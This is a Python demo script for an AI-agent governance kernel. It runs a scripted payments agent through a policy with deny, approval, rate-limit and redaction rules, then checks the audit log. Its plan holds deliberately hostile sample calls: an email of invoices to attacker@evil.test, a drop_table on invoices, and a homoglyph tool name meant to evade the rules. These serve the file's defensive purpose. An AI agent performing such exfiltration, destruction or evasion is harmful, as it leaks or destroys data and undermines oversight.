"""``bastion demo``: a scripted agent (no LLM) under a policy, showing allow, deny, approval,
a rate limit, redaction, the audit log and its verification."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from rich.console import Console
from rich.table import Table

from bastion import Action, GovernanceDenied, Kernel, approval, govern

POLICY = """\
version: 1
name: payments-assistant
default: deny
rules:
  - id: block-destructive
    tools: ["drop_*", "delete_*"]
    effect: deny
    message: destructive operations are blocked
  - id: read-only
    tools: ["get_*", "list_*", "search_*"]
    effect: allow
  - id: internal-mail
    tools: [send_email]
    when: host(args.to) == "example.com"
    effect: allow
    limit: 3/minute
    per: session
  - id: mask-card-numbers
    tools: [send_email]
    effect: redact
    redact_pattern: '\\b\\d(?:[ -]?\\d){12,15}\\b'
  - id: small-payments
    tools: [pay_invoice]
    when: args.amount <= 1000
    effect: allow
  - id: large-payments
    tools: [pay_invoice]
    when: args.amount > 1000
    effect: require_approval
    message: payments over 1000 need a human
"""

PLAN: list[tuple[str, dict[str, Any]]] = [
    ("list_invoices", {"status": "open"}),
    ("pay_invoice", {"invoice": "INV-7", "amount": 420}),
    ("pay_invoice", {"invoice": "INV-9", "amount": 25_000}),
    ("send_email", {"to": "ops@example.com", "body": "card 4111 1111 1111 1111 was charged"}),
    ("send_email", {"to": "attacker@evil.test", "body": "all invoices attached"}),
    ("drop_table", {"name": "invoices"}),
    ("ѕend_email", {"to": "ops@example.com", "body": "cyrillic look-alike tool name"}),
    ("send_email", {"to": "ops@example.com", "body": "status 2"}),
    ("send_email", {"to": "ops@example.com", "body": "status 3"}),
    ("send_email", {"to": "ops@example.com", "body": "status 4: over the limit"}),
]


def run_demo(workdir: Path) -> int:
    console = Console()
    workdir.mkdir(parents=True, exist_ok=True)
    policy_path = workdir / "policy.yaml"
    policy_path.write_text(POLICY, encoding="utf-8")
    audit_path = workdir / "audit.db"
    for old in workdir.glob("audit.db*"):
        old.unlink()
    for old in workdir.glob("state.db*"):
        old.unlink()
    console.print(f"[bold]bastion demo[/bold]: policy {policy_path}, audit {audit_path}\n")
    table = Table(title="a scripted payments agent, every call decided by the kernel")
    for col in ("#", "tool", "arguments", "decision", "why"):
        table.add_column(col, overflow="fold")
    session = {"id": "demo-session"}
    agent = {"id": "payments-agent"}
    with Kernel.from_policy(policy_path, audit=audit_path, state=workdir / "state.db") as kernel:
        tools = {name: _tool(kernel, name, agent, session) for name, _ in PLAN}
        for step, (name, args) in enumerate(PLAN, 1):
            outcome, why = _call(kernel, tools[name], args)
            table.add_row(str(step), name, _short(args), outcome, why)
        console.print(table)
        kernel.audit.flush()
    from bastion.audit import verify

    report = verify(audit_path)
    console.print(f"\naudit log: {report.entries} events, {report.checkpoints} signed checkpoints,"
                  f" verify: [bold]{'intact' if report.ok else 'TAMPERED'}[/bold]")
    console.print(f"next: bastion audit tail {audit_path} -n 3; bastion audit verify {audit_path}")
    return 0 if report.ok else 1


def _tool(kernel: Kernel, name: str, agent: dict[str, str], session: dict[str, str]) -> Any:
    def tool(**kwargs: Any) -> dict[str, Any]:
        return kwargs  # what the tool received, after any redaction

    tool.__name__ = name
    return govern(kernel, name=name, agent=agent, session=session)(tool)


def _call(kernel: Kernel, fn: Any, args: dict[str, Any]) -> tuple[str, str]:
    try:
        received = fn(**args)
        if received != args:
            return "[green]allow[/green] + redact", f"tool received {_short(received)}"
        return "[green]allow[/green]", "ran"
    except GovernanceDenied as denied:
        d = denied.decision
        if d.effect != "require_approval" or d.approval_id is None:
            return f"[red]{d.effect}[/red]", "; ".join(d.reasons or d.errors)
    kernel.approve(d.approval_id, by="alice (finance)", note="checked with vendor")
    with approval(d.approval_id):
        fn(**args)
    return "[yellow]approval[/yellow] → [green]allow[/green]", (
        f"{d.reasons[0]}; approved by alice, retried with approval {d.approval_id}")


def _short(args: dict[str, Any]) -> str:
    text = ", ".join(f"{k}={v!r}" for k, v in args.items())
    return text if len(text) <= 60 else text[:57] + "..."


__all__ = ["Action", "run_demo"]
